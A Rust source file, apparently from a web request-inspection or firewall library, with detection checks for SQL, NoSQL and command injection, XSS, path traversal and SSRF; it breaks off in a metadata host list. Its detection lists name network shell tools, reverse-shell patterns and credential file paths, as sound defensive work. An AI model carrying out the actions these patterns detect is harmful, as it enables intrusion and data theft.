//! Per-category checks on one decoded value.
//!
//! Every check reads the value once or a bounded number of times, returns at
//! most one [`Signal`], and decides its confidence from the value *and* its
//! [`ValueContext`].

use crate::byte_set::ByteSet;
use crate::sqli::{self, SqliStrength};
use crate::value::{Source, ValueContext};
use crate::xss::{self, XssReason};
use memchr::memmem;
use palisade_core::Category;

/// How sure a check is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Confidence {
    /// Suspicious in isolation, ordinary in some applications. Score 2.
    Weak,
    /// Attack syntax that still has benign readings. Score 3.
    Medium,
    /// Only an attack reads this way. Score 5: blocks alone.
    Strong,
}

impl Confidence {
    pub fn score(self) -> u32 {
        match self {
            Confidence::Weak => 2,
            Confidence::Medium => 3,
            Confidence::Strong => 5,
        }
    }
}

/// One check's verdict on one value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Signal {
    pub category: Category,
    /// Rule id suffix after `palisade.`: `sqli`, `xss.event-handler`...
    pub rule: &'static str,
    pub confidence: Confidence,
    /// Byte offset in the value where the evidence starts.
    pub at: usize,
    pub message: &'static str,
}

fn signal(
    category: Category,
    rule: &'static str,
    confidence: Confidence,
    at: usize,
    message: &'static str,
) -> Option<Signal> {
    Some(Signal {
        category,
        rule,
        confidence,
        at,
        message,
    })
}

/// Whether a letter or digit directly precedes a `(` or a backtick: the
/// shape of a call (`alert(`, `alert\``), not of a parenthesis in prose.
fn has_call_shape(lower: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = lower
        .get(from..)
        .and_then(|r| memchr::memchr2(b'(', b'`', r))
    {
        let pos = from + p;
        if pos > 0
            && lower
                .get(pos - 1)
                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        {
            return true;
        }
        from = pos + 1;
    }
    false
}

/// Substring search. Values are short, so a first-byte scan beats building
/// a `memmem` searcher per call; long haystacks still use `memmem`.
fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    let (&first, rest) = needle.split_first()?;
    if haystack.len() < needle.len() {
        return None;
    }
    if haystack.len() > 512 {
        return memmem::find(haystack, needle);
    }
    let last_start = haystack.len() - needle.len();
    let mut from = 0;
    while from <= last_start {
        let window = haystack.get(from..=last_start)?;
        let p = from + memchr::memchr(first, window)?;
        if haystack.get(p + 1..p + needle.len()) == Some(rest) {
            return Some(p);
        }
        from = p + 1;
    }
    None
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

fn at(v: &[u8], i: usize) -> u8 {
    v.get(i).copied().unwrap_or(0)
}

/// Values given to checks: the decoded bytes, an ASCII-lowercased copy, and
/// which ASCII bytes occur (so checks whose syntax is absent return at once).
pub struct Value<'a> {
    pub raw: &'a [u8],
    pub lower: &'a [u8],
    present: ByteSet,
}

impl<'a> Value<'a> {
    pub fn new(raw: &'a [u8], lower: &'a [u8]) -> Self {
        Self::with_bytes(raw, lower, ByteSet::of(raw))
    }

    /// A value whose byte set the caller already has (`present` must be
    /// `ByteSet::of(raw)`).
    pub fn with_bytes(raw: &'a [u8], lower: &'a [u8], present: ByteSet) -> Self {
        debug_assert_eq!(present, ByteSet::of(raw));
        Value {
            raw,
            lower,
            present,
        }
    }

    /// Whether any of `bytes` occurs in the value.
    pub fn has_any(&self, bytes: &[u8]) -> bool {
        self.present.has_any(bytes)
    }
}

/// A lazily built multi-pattern searcher over lowercased text.
struct NeedleSet {
    cell: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>>,
    needles: &'static [&'static [u8]],
}

impl NeedleSet {
    const fn new(needles: &'static [&'static [u8]]) -> Self {
        NeedleSet {
            cell: std::sync::OnceLock::new(),
            needles,
        }
    }

    /// Leftmost position of any needle.
    fn find(&self, haystack: &[u8]) -> Option<usize> {
        let automaton = self.cell.get_or_init(|| {
            aho_corasick::AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostFirst)
                .build(self.needles)
                .ok()
        });
        match automaton {
            Some(ac) => ac.find(haystack).map(|m| m.start()),
            None => self.needles.iter().filter_map(|n| find(haystack, n)).min(),
        }
    }
}

pub fn sqli(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    let a = sqli::analyze(v.raw)?;
    let confidence = match a.strength {
        SqliStrength::Injection => {
            // A long prose value whose opening words happen to scan as a
            // condition (`Yes or no = maybe`) is weaker than a short value.
            Confidence::Strong
        }
        // A whole statement without a breakout reads the same as a sentence
        // such as "select fabrics from italy": suspicious, not conclusive.
        SqliStrength::Statement => {
            if ctx.source.is_structural() || ctx.source.is_transport() {
                Confidence::Medium
            } else {
                Confidence::Weak
            }
        }
    };
    signal(
        Category::SqlInjection,
        "sqli",
        confidence,
        0,
        "SQL injection (token fingerprint)",
    )
}

static JS_SINK_SET: NeedleSet = NeedleSet::new(JS_SINKS);

const JS_SINKS: &[&[u8]] = &[
    b"alert(",
    b"alert`",
    b"prompt(",
    b"confirm(",
    b"eval(",
    b"settimeout(",
    b"setinterval(",
    b"function(",
    b"fetch(",
    b"document.cookie",
    b"document.domain",
    b"document.write",
    b"window.location",
    b"location.href",
    b"string.fromcharcode",
    b"import(",
    b"atob(",
];

pub fn xss(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b"<=:(`.") {
        return None;
    }
    if let Some(reason) = v.has_any(b"<=").then(|| xss::find_xss(v.raw)).flatten() {
        let (rule, message) = match reason {
            XssReason::DangerousTag => ("xss.tag", "XSS: script-capable element"),
            XssReason::EventHandler => ("xss.event-handler", "XSS: event handler attribute"),
            XssReason::ScriptUrl => ("xss.script-url", "XSS: script URL in attribute"),
            XssReason::ScriptStyle => ("xss.style", "XSS: script in style"),
            XssReason::ConditionalComment => ("xss.comment", "XSS: conditional comment"),
        };
        return signal(Category::Xss, rule, Confidence::Strong, 0, message);
    }
    let trimmed_start = v.raw.len() - v.raw.trim_ascii_start().len();
    if v.has_any(b":") && xss::is_script_url(v.raw.trim_ascii_start()) {
        return signal(
            Category::Xss,
            "xss.script-url",
            Confidence::Strong,
            trimmed_start,
            "XSS: javascript:/vbscript:/data: URL",
        );
    }
    // Script in CSS: `background:url(javascript:...)`, `width:expression(...)`.
    if v.has_any(b"(") {
        if let Some(p) = find(v.lower, b"url(") {
            let inner = v.lower.get(p + 4..).unwrap_or(&[]);
            let inner = inner
                .iter()
                .position(|b| !matches!(b, b' ' | b'\'' | b'"'))
                .and_then(|k| inner.get(k..))
                .unwrap_or(&[]);
            if xss::is_script_url(inner) {
                return signal(
                    Category::Xss,
                    "xss.style",
                    Confidence::Strong,
                    p,
                    "XSS: script URL in CSS",
                );
            }
        }
    }
    // Script in a JavaScript string context: `';alert(1)//`, `"-alert(1)-"`.
    let sink_possible = has_call_shape(v.lower)
        || v.has_any(b"=") && contains(v.lower, b"location")
        || contains(v.lower, b"document.");
    if !sink_possible {
        return None;
    }
    let sink = JS_SINK_SET.find(v.lower)?;
    let before = v.lower.get(..sink).unwrap_or(&[]);
    let breakout = before
        .iter()
        .rev()
        .find(|b| !b.is_ascii_whitespace())
        .is_some_and(|b| {
            matches!(
                b,
                b';' | b'+' | b'-' | b'*' | b'|' | b'&' | b'(' | b'}' | b'`' | b'\'' | b'"' | b','
            )
        })
        && before
            .iter()
            .any(|b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'}'));
    // In prose, backticks and parentheses are markdown and punctuation; only
    // a quote closed and followed by an operator is a breakout there.
    let quoted_breakout = {
        let t = before.trim_ascii_end();
        let t = t.strip_suffix(b")").unwrap_or(t);
        t.len() >= 2
            && matches!(
                t.last(),
                Some(b';' | b'+' | b'-' | b'*' | b'|' | b'&' | b',')
            )
            && t.get(..t.len() - 1)
                .map(|p| p.trim_ascii_end())
                .is_some_and(|p| matches!(p.last(), Some(b'\'' | b'"')))
    };
    let breakout = if ctx.prose() {
        quoted_breakout
    } else {
        breakout
    };
    let confidence = if breakout || before.trim_ascii().is_empty() && !ctx.prose() {
        Confidence::Strong
    } else if ctx.prose() {
        Confidence::Weak
    } else {
        Confidence::Medium
    };
    signal(
        Category::Xss,
        "xss.js",
        confidence,
        sink,
        "XSS: JavaScript sink call",
    )
}

const NOSQL_OPERATORS: &[&[u8]] = &[
    b"where",
    b"ne",
    b"gt",
    b"gte",
    b"lt",
    b"lte",
    b"regex",
    b"in",
    b"nin",
    b"exists",
    b"or",
    b"and",
    b"not",
    b"nor",
    b"expr",
    b"function",
    b"accumulator",
    b"elemmatch",
    b"size",
    b"type",
    b"all",
    b"mod",
    b"text",
    b"jsonschema",
    b"eq",
    b"options",
    b"lookup",
    b"match",
    b"group",
    b"where",
];

fn is_nosql_operator(name: &[u8]) -> bool {
    let name = name.strip_prefix(b"$").unwrap_or(name);
    NOSQL_OPERATORS
        .iter()
        .any(|op| op.eq_ignore_ascii_case(name))
}

/// `$ne` as a JSON key.
pub fn nosql_key(key: &[u8]) -> Option<Signal> {
    if key.first() == Some(&b'$') && is_nosql_operator(key) {
        return signal(
            Category::NosqlInjection,
            "nosql.operator",
            Confidence::Strong,
            0,
            "NoSQL operator in object key",
        );
    }
    None
}

/// `user[$ne]` as a parameter name; `{"$gt": ""}` or `$where` inside a value.
pub fn nosql(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !(v.has_any(b"$;") || v.has_any(b".") && v.has_any(b"(")) {
        return None;
    }
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'$', v.lower.get(from..).unwrap_or(&[])) {
        let start = from + p;
        let mut end = start + 1;
        while end < v.lower.len() && at(v.lower, end).is_ascii_alphabetic() {
            end += 1;
        }
        let name = v.lower.get(start..end).unwrap_or(&[]);
        let opener = start.checked_sub(1).map(|i| at(v.lower, i)).unwrap_or(b'^');
        let closer = at(v.lower, end);
        let structural = matches!(opener, b'[' | b'{' | b'"' | b'\'' | b'^' | b',' | b' ')
            && matches!(closer, b']' | b'"' | b'\'' | b':' | 0);
        if name.len() > 1 && is_nosql_operator(name) && structural {
            let confidence = if ctx.source == Source::ParamName
                || opener == b'['
                || opener == b'{'
                || (opener == b'"' && closer == b'"' && contains(v.lower, b":"))
                || name == b"$where"
            {
                Confidence::Strong
            } else {
                Confidence::Medium
            };
            return signal(
                Category::NosqlInjection,
                "nosql.operator",
                confidence,
                start,
                "NoSQL operator injection",
            );
        }
        from = end.max(start + 1);
    }
    // Server-side JavaScript injection into `$where`: `'; return true; var a='`.
    if let Some(p) = find(v.lower, b"return ") {
        let before = v.lower.get(..p).unwrap_or(&[]);
        let after = v.lower.get(p + 7..).unwrap_or(&[]).trim_ascii_start();
        let returns_condition = [&b"true"[..], b"1", b"this.", b"db.", b"!0", b"sleep("]
            .iter()
            .any(|w| after.starts_with(w));
        if before.trim_ascii_end().ends_with(b";")
            && (before.iter().any(|b| matches!(b, b'\'' | b'"')) || returns_condition)
        {
            return signal(
                Category::NosqlInjection,
                "nosql.js",
                Confidence::Strong,
                p,
                "Server-side JavaScript injection",
            );
        }
    }
    let quote_statement = v
        .lower
        .iter()
        .position(|b| matches!(b, b'\'' | b'"'))
        .is_some_and(|q| {
            let rest = v.lower.get(q + 1..).unwrap_or(&[]).trim_ascii_start();
            rest.starts_with(b";") && {
                let stmt = rest.get(1..).unwrap_or(&[]).trim_ascii_start();
                [
                    &b"sleep("[..],
                    b"while(",
                    b"while (",
                    b"var ",
                    b"let ",
                    b"return",
                    b"throw ",
                ]
                .iter()
                .any(|w| stmt.starts_with(w))
            }
        });
    if quote_statement
        || contains(v.lower, b"this.")
            && (contains(v.lower, b".match(") || contains(v.lower, b"sleep("))
    {
        return signal(
            Category::NosqlInjection,
            "nosql.js",
            Confidence::Strong,
            0,
            "Server-side JavaScript injection",
        );
    }
    None
}

/// Commands an attacker runs to prove or use execution; none is an English word.
const COMMANDS_DISTINCT: &[&[u8]] = &[
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"sh",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"bitsadmin",
    b"nslookup",
    b"ifconfig",
    b"ipconfig",
    b"systeminfo",
    b"tasklist",
    b"netstat",
    b"chmod",
    b"chown",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"telnet",
    b"busybox",
    b"xterm",
    b"nohup",
    b"wmic",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"crontab",
    b"useradd",
    b"ls",
    b"cmd",
    b"cmd.exe",
    b"powershell.exe",
    b"lsb_release",
    b"getent",
    b"socat",
    b"msiexec",
    b"hostname",
    b"ping6",
    b"traceroute",
    b"tracert",
    b"echo",
];

/// Commands that are also words; they need a command-shaped tail.
const COMMANDS_WORDS: &[&[u8]] = &[
    b"id",
    b"cat",
    b"ping",
    b"sleep",
    b"dir",
    b"type",
    b"env",
    b"ps",
    b"kill",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"find",
    b"grep",
    b"awk",
    b"sed",
    b"touch",
    b"mkdir",
    b"rm",
    b"cp",
    b"mv",
    b"dig",
    b"host",
    b"who",
    b"set",
    b"sort",
    b"net",
    b"uniq",
    b"wc",
    b"xxd",
    b"od",
    b"tac",
    b"nl",
    b"base64",
    b"timeout",
    b"expr",
    b"printf",
    b"print",
    b"pwd",
    b"time",
    b"uptime",
    b"reboot",
    b"shutdown",
    b"sudo",
    b"su",
    b"eval",
    b"exec",
    b"source",
    b"start",
    b"call",
    b"whois",
    b"rev",
    b"vi",
    b"tee",
    b"xargs",
    b"export",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CommandKind {
    /// Not an English word: a separator before it is enough.
    Distinct,
    /// Also a word: needs a command-shaped tail.
    Word,
    /// Runs the command that follows its options.
    Wrapper,
}

/// Looks a word up in the command lists (bucketed by first byte).
fn command_kind(word: &[u8]) -> Option<CommandKind> {
    type Buckets = Vec<Vec<(&'static [u8], CommandKind)>>;
    static TABLE: std::sync::OnceLock<Buckets> = std::sync::OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut buckets: Buckets = vec![Vec::new(); 256];
        let lists = [
            (COMMANDS_DISTINCT, CommandKind::Distinct),
            (COMMAND_WRAPPERS, CommandKind::Wrapper),
            (COMMANDS_WORDS, CommandKind::Word),
        ];
        for (list, kind) in lists {
            for &w in list {
                if let Some(bucket) = w.first().and_then(|b| buckets.get_mut(usize::from(*b))) {
                    if !bucket.iter().any(|(e, _)| *e == w) {
                        bucket.push((w, kind));
                    }
                }
            }
        }
        buckets
    });
    let bucket = table.get(usize::from(*word.first()?))?;
    bucket
        .iter()
        .find(|(w, _)| w.len() == word.len() && *w == word)
        .map(|(_, kind)| *kind)
}

/// Commands that run another command given after their own options.
const COMMAND_WRAPPERS: &[&[u8]] = &[
    b"timeout", b"sudo", b"nohup", b"nice", b"time", b"env", b"xargs", b"exec", b"eval",
    b"command", b"stdbuf", b"setsid", b"doas", b"watch",
];

/// Normalises shell obfuscation into `out`: `${IFS}`/`$IFS$9` become spaces,
/// quotes and backslashes inside words vanish (`w'h'o\ami` is `whoami`),
/// `$@`/`$*` vanish.
pub fn shell_normalize(lower: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let mut i = 0;
    while i < lower.len() {
        let rest = lower.get(i..).unwrap_or(&[]);
        if rest.starts_with(b"${ifs}") {
            out.push(b' ');
            i += 6;
            continue;
        }
        if rest.starts_with(b"$ifs") {
            out.push(b' ');
            i += 4;
            if at(lower, i) == b'$' && at(lower, i + 1).is_ascii_digit() {
                i += 2;
            }
            continue;
        }
        if matches!(rest, [b'$', b'@' | b'*', ..]) {
            i += 2;
            continue;
        }
        let b = at(lower, i);
        let prev_word = out.last().is_some_and(|p| p.is_ascii_alphanumeric());
        let next_word = at(lower, i + 1).is_ascii_alphanumeric()
            || (matches!(at(lower, i + 1), b'\'' | b'"')
                && at(lower, i + 2).is_ascii_alphanumeric());
        if matches!(b, b'\'' | b'"' | b'\\') && prev_word && next_word {
            i += 1;
            continue;
        }
        if b == b'\\' && next_word && !prev_word && out.last() != Some(&b':') {
            i += 1;
            continue;
        }
        out.push(b);
        i += 1;
    }
}

fn command_tail_is_shell(v: &[u8], end: usize) -> bool {
    let mut i = end;
    while at(v, i) == b' ' || at(v, i) == b'\t' {
        i += 1;
    }
    if i >= v.len() {
        return true;
    }
    match at(v, i) {
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'$' | b'-' | b'/' | b'\\' | b'>'
        | b'<' | b'\'' | b'"' | b'%' | b'~' | b'*' | b'{' | b'#' => true,
        b'0'..=b'9' => {
            // `sleep 5`, `ping 10.0.0.1`, but not `sleep 8 hours`
            let mut j = i;
            while j < v.len() && (at(v, j).is_ascii_digit() || at(v, j) == b'.') {
                j += 1;
            }
            while matches!(at(v, j), b' ' | b'\t') {
                j += 1;
            }
            j >= v.len() || !at(v, j).is_ascii_alphabetic()
        }
        b'.' => matches!(at(v, i + 1), b'/' | b'.'),
        b'a'..=b'z' => {
            // `c:\windows`, `cat x.txt`-like file argument
            (at(v, i + 1) == b':' && matches!(at(v, i + 2), b'\\' | b'/')) || {
                let mut j = i;
                while j < v.len() && (at(v, j).is_ascii_alphanumeric() || at(v, j) == b'_') {
                    j += 1;
                }
                at(v, j) == b'.' && at(v, j + 1).is_ascii_alphabetic() && j + 4 >= v.len()
            }
        }
        _ => false,
    }
}

/// OS command injection: a command separator or substitution followed by a command.
pub fn cmdi(v: &Value<'_>, ctx: &ValueContext<'_>, scratch: &mut Vec<u8>) -> Option<Signal> {
    if !v.has_any(b";|&\n`$\r") {
        return None;
    }
    // Quotes, backslashes and `$` are how commands get disguised; without
    // them the value already reads as the shell would.
    let s: &[u8] = if v.has_any(b"'\"\\$") {
        shell_normalize(v.lower, scratch);
        scratch
    } else {
        v.lower
    };
    let mut best: Option<Signal> = None;
    let mut i = 0;
    while i < s.len() {
        let b = at(s, i);
        let (sep_len, kind) = match b {
            b';' | b'|' | b'&' => (1, Sep::Chain),
            b'\n' | b'\r' => (1, Sep::Newline),
            b'`' => (1, Sep::Substitution),
            b'$' if at(s, i + 1) == b'(' => (2, Sep::Substitution),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = i + sep_len;
        while matches!(
            at(s, j),
            b'|' | b'&' | b' ' | b'\t' | b'(' | b'{' | b'\n' | b'\r' | b'!'
        ) && j < s.len()
        {
            j += 1;
        }
        let brace = j > 0 && at(s, j - 1) == b'{';
        let word_start = j;
        while j < s.len()
            && (at(s, j).is_ascii_alphanumeric() || matches!(at(s, j), b'_' | b'.' | b'/' | b'-'))
        {
            j += 1;
        }
        // `{cat,/etc/passwd}`: brace expansion spells a command and its arguments.
        let brace_command = brace && at(s, j) == b',';
        let word = s.get(word_start..j).unwrap_or(&[]);
        let word = word.strip_suffix(b".").unwrap_or(word);
        let (base, had_path) = match word.iter().rposition(|b| *b == b'/') {
            Some(p) => (
                word.get(p + 1..).unwrap_or(&[]),
                word.first() == Some(&b'/'),
            ),
            None => (word, false),
        };
        let net_subcommand = base == b"net" && {
            let rest = s
                .get(word_start + word.len()..)
                .unwrap_or(&[])
                .trim_ascii_start();
            [
                &b"user"[..],
                b"localgroup",
                b"group",
                b"share",
                b"use ",
                b"view",
                b"start",
                b"stop",
                b"accounts",
                b"session",
            ]
            .iter()
            .any(|sub| rest.starts_with(sub))
        };
        // `timeout 5 sleep 10`, `sudo -u x id`: a wrapper runs the command after its options
        let wrapped = command_kind(base) == Some(CommandKind::Wrapper) && {
            let mut k = word_start + word.len();
            loop {
                while matches!(at(s, k), b' ' | b'\t') {
                    k += 1;
                }
                let arg_start = k;
                while k < s.len() && !matches!(at(s, k), b' ' | b'\t' | b';' | b'|' | b'&') {
                    k += 1;
                }
                let arg = s.get(arg_start..k).unwrap_or(&[]);
                if arg.is_empty() {
                    break false;
                }
                if arg.first() == Some(&b'-')
                    || arg.iter().all(|b| b.is_ascii_digit() || *b == b'.')
                {
                    continue;
                }
                let arg_base = arg.rsplit(|b| *b == b'/').next().unwrap_or(arg);
                break match command_kind(arg_base) {
                    Some(CommandKind::Distinct) => true,
                    Some(CommandKind::Word | CommandKind::Wrapper) => command_tail_is_shell(s, k),
                    None => false,
                };
            }
        };
        let command_class = command_kind(base);
        // `` `type` `` in a document is markdown code, not substitution
        let inline_code = b == b'`'
            && command_class == Some(CommandKind::Word)
            && at(s, word_start + word.len()) == b'`'
            && (memchr::memchr(b'\n', s).is_some() || memchr::memchr_iter(b'`', s).count() > 2);
        if inline_code {
            i += sep_len;
            continue;
        }
        let command = if command_class == Some(CommandKind::Distinct) || net_subcommand || wrapped {
            true
        } else if command_class.is_some() {
            had_path || brace_command || command_tail_is_shell(s, word_start + word.len())
        } else {
            had_path
                && (word.starts_with(b"/bin/")
                    || word.starts_with(b"/usr/bin/")
                    || word.starts_with(b"/usr/local/bin/")
                    || word.starts_with(b"/sbin/"))
        };
        if command && !base.is_empty() {
            let at_start = s
                .get(..i)
                .is_some_and(|p| p.trim_ascii().len() <= 64 && !ctx.prose());
            let confidence = match kind {
                Sep::Newline if ctx.source.is_body_text() => {
                    if ctx.prose() || !at_start {
                        Confidence::Weak
                    } else if s.len() <= 128 {
                        Confidence::Strong
                    } else {
                        Confidence::Medium
                    }
                }
                Sep::Substitution if ctx.prose() && b == b'`' => Confidence::Weak,
                _ if ctx.prose() && !had_path => Confidence::Medium,
                _ => Confidence::Strong,
            };
            let candidate = Signal {
                category: Category::CommandInjection,
                rule: "cmdi",
                confidence,
                at: i,
                message: "OS command injection",
            };
            if best.as_ref().is_none_or(|b| b.confidence < confidence) {
                best = Some(candidate);
            }
            if confidence == Confidence::Strong {
                break;
            }
        }
        i += sep_len;
    }
    if best.is_none() && (contains(s, b"/dev/tcp/") || contains(s, b"bash -i")) {
        best = signal(
            Category::CommandInjection,
            "cmdi",
            Confidence::Strong,
            0,
            "Reverse shell",
        );
    }
    best
}

#[derive(Clone, Copy)]
enum Sep {
    Chain,
    Newline,
    Substitution,
}

static SENSITIVE_PATH_SET: NeedleSet = NeedleSet::new(SENSITIVE_PATHS);
static WRAPPER_SET: NeedleSet = NeedleSet::new(&[
    b"php://",
    b"zip://",
    b"phar://",
    b"expect://",
    b"glob://",
    b"compress.zlib://",
    b"data://",
]);

const SENSITIVE_PATHS: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/hosts",
    b"/etc/group",
    b"/etc/issue",
    b"/etc/hostname",
    b"/etc/sudoers",
    b"/etc/crontab",
    b"/etc/nginx/",
    b"/etc/apache2/",
    b"/etc/httpd/",
    b"/etc/mysql/",
    b"/etc/ssh/",
    b"/proc/self/",
    b"/proc/version",
    b"/proc/1/",
    b"/root/",
    b"/.ssh/",
    b"id_rsa",
    b"/var/log/",
    b"/var/www/",
    b"win.ini",
    b"boot.ini",
    b"system.ini",
    b"/windows/system32",
    b"\\windows\\system32",
    b"/system32/",
    b"web.config",
    b"web-inf/web.xml",
    b".htaccess",
    b".htpasswd",
    b"wp-config.php",
    b"/.git/config",
    b"/.env",
    b"/.aws/credentials",
    b"/.bash_history",
    b"c:\\windows",
    b"c:/windows",
    b"/etc/",
];

/// Path traversal and local file inclusion.
pub fn traversal(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b"/\\:") {
        return None;
    }
    let s = v.lower;
    let mut ups = 0;
    let mut first = None;
    let mut i = 0;
    while let Some(p) = find(s.get(i..)?, b"..") {
        let pos = i + p;
        let before_ok = pos == 0 || matches!(at(s, pos - 1), b'/' | b'\\' | b'=' | b':' | b' ');
        let mut after = pos + 2;
        // `....//` and `..;/` variants
        while at(s, after) == b'.' {
            after += 1;
        }
        if at(s, after) == b';' {
            after += 1;
        }
        let after_ok = matches!(at(s, after), b'/' | b'\\') || (after >= s.len() && pos > 0);
        if before_ok && after_ok {
            ups += 1;
            first.get_or_insert(pos);
        }
        i = pos + 2;
    }
    let sensitive = SENSITIVE_PATH_SET.find(s);
    let wrapper = if v.has_any(b":") {
        WRAPPER_SET.find(s)
    } else {
        None
    };
    if let Some(w) = wrapper {
        return signal(
            Category::PathTraversal,
            "lfi.wrapper",
            if ctx.prose() {
                Confidence::Medium
            } else {
                Confidence::Strong
            },
            w,
            "Local file inclusion through a stream wrapper",
        );
    }
    if ups > 0 {
        let confidence = if ups >= 2 || sensitive.is_some() || ctx.source.is_structural() {
            if ctx.prose() && ups < 3 && sensitive.is_none() {
                Confidence::Medium
            } else {
                Confidence::Strong
            }
        } else if ctx.source.is_transport() || ctx.source == Source::MultipartFilename {
            Confidence::Medium
        } else {
            Confidence::Weak
        };
        return signal(
            Category::PathTraversal,
            "traversal",
            confidence,
            first.unwrap_or(0),
            "Path traversal",
        );
    }
    if let Some(p) = sensitive {
        // An absolute sensitive path *as the value* is file inclusion; a mention
        // inside prose is a discussion.
        let anchored = s.get(..p).is_some_and(|pre| {
            pre.trim_ascii().is_empty()
                || pre.iter().all(|b| matches!(b, b'.' | b'/' | b'\\' | b'~'))
                || pre.ends_with(b"file:")
                || pre.ends_with(b"file://")
                || pre.ends_with(b"c:")
                || pre.ends_with(b"=")
        });
        let confidence = if anchored && !ctx.prose() {
            if s.get(p..).is_some_and(|t| t == b"/etc/") {
                Confidence::Medium
            } else {
                Confidence::Strong
            }
        } else if ctx.prose() {
            return None;
        } else {
            Confidence::Weak
        };
        return signal(
            Category::PathTraversal,
            "lfi.path",
            confidence,
            p,
            "Local file inclusion of a system file",
        );
    }
    None
}

const URL_PARAM_HINTS: &[&str] = &[
    "url", "uri", "link", "host", "target", "dest", "redirect", "callback", "webhook", "endpoint",
    "proxy", "domain", "site", "feed", "src", "source", "image", "avatar", "next", "return",
    "goto", "continue", "file", "page", "path", "load", "fetch", "server", "address",
];

fn name_hints_url(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    URL_PARAM_HINTS.iter().any(|h| lower.contains(h))
}

const RFI_PARAM_HINTS: &[&str] = &[
    "file", "page", "include", "inc", "template", "tpl", "path", "doc", "folder", "module", "load",
    "view", "lang", "style", "layout", "conf", "dir", "show", "site", "content",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum HostClass {
    Metadata,
    Loopback,
    LinkLocal,
    Private,
    Unspecified,
    Public,
    Named,
}

/// Parses an IPv4 address the way `inet_aton` does: 1 to 4 parts, each
/// decimal, `0x` hex or `0` octal; the last part fills the remaining bytes.
fn parse_ipv4_lenient(host: &[u8]) -> Option<u32> {
    let mut parts = [0u64; 4];
    let mut count = 0;
    for part in host.split(|b| *b == b'.') {
        if count == 4 || part.is_empty() || part.len() > 12 {
            return None;
        }
        let (digits, radix) =
            if part.len() > 2 && (part.starts_with(b"0x") || part.starts_with(b"0X")) {
                (part.get(2..)?, 16)
            } else if part.len() > 1 && part.first() == Some(&b'0') {
                (part.get(1..)?, 8)
            } else {
                (part, 10)
            };
        let text = std::str::from_utf8(digits).ok()?;
        let value = u64::from_str_radix(text, radix).ok()?;
        *parts.get_mut(count)? = value;
        count += 1;
    }
    let value: u64 = match count {
        1 => parts[0],
        2 => (parts[0] << 24) | parts[1],
        3 => (parts[0] << 24) | (parts[1] << 16) | parts[2],
        4 => (parts[0] << 24) | (parts[1] << 16) | (parts[2] << 8) | parts[3],
        _ => return None,
    };
    let limits_ok = match count {
        1 => value <= u64::from(u32::MAX),
        2 => parts[0] <= 255 && parts[1] <= 0xFF_FFFF,
        3 => parts[0] <= 255 && parts[1] <= 255 && parts[2] <= 0xFFFF,
        _ => parts.iter().all(|p| *p <= 255),
    };
    if !limits_ok {
        return None;
    }
    u32::try_from(value).ok()
}

fn classify_ipv4(ip: u32) -> HostClass {
    let [a, b, c, d] = ip.to_be_bytes();
    match (a, b, c, d) {
        (169, 254, 169, 254) | (100, 100, 100, 200) | (192, 0, 0, 192) | (169, 254, 170, 2) => {
            HostClass::Metadata
        }
        (127, ..) => HostClass::Loopback,
        (0, ..) => HostClass::Unspecified,
        (169, 254, ..) => HostClass::LinkLocal,
        (10, ..) | (192, 168, ..) => HostClass::Private,
        (172, 16..=31, ..) => HostClass::Private,
        (100, 64..=127, ..) => HostClass::Private,
        _ => HostClass::Public,
    }
}

fn classify_host(host: &[u8]) -> HostClass {
    let host = host.strip_suffix(b".").unwrap_or(host);
    if host.is_empty() {
        return HostClass::Named;
    }
    if let Some(inner) = host.strip_prefix(b"[").and_then(|h| h.strip_suffix(b"]")) {
        let text = std::str::from_utf8(inner).unwrap_or("");
        let text = text.split('%').next().unwrap_or("");
        return match text.parse::<std::net::Ipv6Addr>() {
            Ok(ip) => {
                if let Some(v4) = ip.to_ipv4_mapped() {
                    return classify_ipv4(u32::from(v4));
                }
                let seg = ip.segments();
                if ip.is_loopback() {
                    HostClass::Loopback
                } else if ip.is_unspecified() {
                    HostClass::Unspecified
                } else if seg[0] == 0xfd00 && seg[1] == 0x0ec2 {
                    HostClass::Metadata
                } else if seg[0] & 0xffc0 == 0xfe80 {
                    HostClass::LinkLocal
                } else if seg[0] & 0xfe00 == 0xfc00 {
                    HostClass::Private
                } else if seg[0] == 0
                    && seg[1] == 0
                    && seg[2] == 0
                    && seg[3] == 0
                    && seg[4] == 0
                    && seg[5] == 0
                {
                    // IPv4-compatible `::127.0.0.1`
                    let v4 = (u32::from(seg[6]) << 16) | u32::from(seg[7]);
                    classify_ipv4(v4)
                } else {
                    HostClass::Public
                }
            }
            Err(_) => HostClass::Named,
        };
    }
    if let Some(ip) = parse_ipv4_lenient(host) {
        return classify_ipv4(ip);
    }
    const METADATA_NAMES: &[&[u8]] = &[
        b"metadata.google.internal",
        b"metadata.goog",
        b"metadata",
        b"instance-data",
